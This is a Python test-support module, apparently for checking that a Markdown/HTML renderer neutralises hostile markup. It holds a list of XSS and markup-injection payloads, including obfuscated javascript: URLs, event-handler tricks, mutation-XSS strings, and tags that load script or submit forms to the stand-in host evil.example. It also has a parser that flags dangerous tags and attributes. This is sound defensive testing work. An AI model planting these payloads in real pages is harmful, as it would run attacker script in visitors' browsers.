"""Texts that attack the reader of a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](java\tscript:alert(1))",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](vbscript:x)",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=a><button>b</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id=login name=login>",
    '```"onmouseover=alert(1)\nx\n```',
    '``` x" class="fixed\nx\n```',
    '!["onerror=alert(1)](x)',
    "[a]: javascript:alert(1)\n[a]",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
]


class _Harmless(HTMLParser):
    """A parser that collects all markup that could do harm."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
            "math",
            "base",
            "meta",
            "link",
        }:
            self.wrong.append(tag)
        for name, value in attrs:
            url = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            is_bad_url = name in {"href", "src"} and re.match(r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", url)
            if name.startswith("on") or name in {"style", "id", "name"} or is_bad_url:
                self.wrong.append(f"{tag} {name}={value}")


def harm_in(html: str) -> list[str]:
    parser = _Harmless()
    parser.feed(html)
    parser.close()
    return parser.wrong
